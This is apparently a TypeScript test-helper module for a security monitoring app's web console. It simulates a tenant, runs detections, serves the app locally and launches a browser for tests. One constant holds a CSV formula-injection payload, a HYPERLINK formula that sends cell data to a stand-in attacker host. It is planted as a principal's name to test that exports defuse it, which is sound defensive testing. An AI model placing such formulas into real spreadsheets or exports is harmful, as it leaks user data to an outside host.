import { execFileSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before } from 'node:test';
import { fileURLToPath } from 'node:url';
import type { FastifyInstance } from 'fastify';
import type { Browser } from 'playwright-core';
import { createApiKeys } from '../../src/api/auth/api-keys.ts';
import type { Role } from '../../src/api/auth/roles.ts';
import { buildApp } from '../../src/app.ts';
import { loadConfig } from '../../src/config/load.ts';
import { runDetections } from '../../src/jobs/detection-run.ts';
import type { SimulationLabels } from '../../src/simulate/labels.ts';
import { simulateTenant } from '../../src/simulate/simulate-tenant.ts';
import { launchBrowser } from './browser.ts';
import type { TestStore } from './dialects.ts';
import { importSimulatedTenant } from './simulated-tenant.ts';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));

/** A display name a spreadsheet would run as a formula: the CSV must defuse it. */
export const FORMULA_NAME = '=HYPERLINK("https://attacker.example/x?"&A1,"Open report")';

/** Builds the console once per test process when `npm run build` has not (a fresh checkout without `prepare`). */
export function ensureConsoleBuilt(): void {
  if (existsSync(`${ROOT}web/dist/index.html`)) return;
  execFileSync(
    process.execPath,
    [`${ROOT}node_modules/vite/bin/vite.js`, 'build', '--config', 'web/vite.config.ts', '--logLevel', 'warn'],
    {
      cwd: ROOT,
      stdio: 'inherit',
    },
  );
}

/** A served tenant for console tests: the store filled, detections run, the app listening. */
export interface ConsoleTenant {
  app: FastifyInstance;
  /** `http://127.0.0.1:<port>` */
  origin: string;
  tenantId: string;
  /** The principal named FORMULA_NAME, at medium risk. */
  formulaPrincipalId: string;
  key(role: Role): Promise<string>;
  /** A GET of the API as `token` would make it, parsed. */
  get<T = Record<string, unknown>>(path: string, token: string): Promise<T>;
  close(): Promise<void>;
}

/**
 * Imports a simulated tenant into the store, runs detection as `vigil detect` would, adds one
 * principal whose name is a spreadsheet formula, and serves the app on an ephemeral loopback port.
 */
export async function serveConsoleTenant(
  t: TestStore,
  out: string,
  labels: SimulationLabels,
): Promise<ConsoleTenant> {
  const tenantId = labels.tenantId;
  await importSimulatedTenant(t.store, out, tenantId, { enrich: true });
  const now = new Date().toISOString();
  await runDetections(t.store, now);
  const formulaPrincipalId = randomUUID();
  await t.store.db
    .insertInto('service_principals')
    .values({
      tenant_id: tenantId,
      id: formulaPrincipalId,
      app_id: randomUUID(),
      display_name: FORMULA_NAME,
      kind: 'application',
      service_principal_type: 'Application',
      app_owner_organization_id: tenantId,
      account_enabled: 1,
      created_at: now,
      source: 'test',
      updated_at: now,
    })
    .execute();
  await t.store.db
    .insertInto('risky_principals')
    .values({
      tenant_id: tenantId,
      principal_id: formulaPrincipalId,
      risk_level: 'medium',
      risk_state: 'atRisk',
      risk_detail: 'none',
      risk_last_updated_date_time: now,
    })
    .execute();

  const config = loadConfig({
    env: {},
    overrides: { defaultTenantId: tenantId, detectIntervalSeconds: 0, exportIntervalSeconds: 0 },
  });
  const app = await buildApp({ config, store: t.store, intel: null, logger: false });
  await app.listen({ host: '127.0.0.1', port: 0 });
  const origin = `http://127.0.0.1:${(app.server.address() as AddressInfo).port}`;
  const keys = createApiKeys(t.store);
  return {
    app,
    origin,
    tenantId,
    formulaPrincipalId,
    async key(role) {
      return (await keys.create({ tenantId, role, name: `console ${role}` })).key;
    },
    async get(path, token) {
      const res = await fetch(`${origin}${path}`, {
        headers: { authorization: `Bearer ${token}`, prefer: 'include-unknown-enum-members' },
      });
      if (!res.ok) throw new Error(`GET ${path}: ${res.status} ${await res.text()}`);
      return (await res.json()) as never;
    },
    async close() {
      await app.close();
    },
  };
}

/** Where console tests leave their screenshots. */
export const SCREENSHOTS = join(process.cwd(), 'test-results', 'console');

/** What a console test file shares: a simulated tenant's export on disk and one Chromium. */
export interface ConsoleRun {
  readonly out: string;
  readonly labels: SimulationLabels;
  readonly browser: Browser;
}

/**
 * Registers the file's hooks: before its tests, the console built, a 30-principal tenant of 21 days
 * simulated from `seed` and Chromium launched; after them, both gone.
 */
export function useConsoleRun(seed: number): ConsoleRun {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-console-'));
  const out = join(dir, 'tenant');
  let labels: SimulationLabels | undefined;
  let browser: Browser | undefined;
  before(async () => {
    ensureConsoleBuilt();
    mkdirSync(SCREENSHOTS, { recursive: true });
    labels = (await simulateTenant({ out, principals: 30, days: 21, seed, end: new Date() })).labels;
    browser = await launchBrowser();
  });
  after(async () => {
    await browser?.close();
    rmSync(dir, { recursive: true, force: true });
  });
  const ready = <T>(value: T | undefined): T => {
    if (value === undefined) throw new Error('the console run is read before its hooks ran');
    return value;
  };
  return {
    out,
    get labels() {
      return ready(labels);
    },
    get browser() {
      return ready(browser);
    },
  };
}
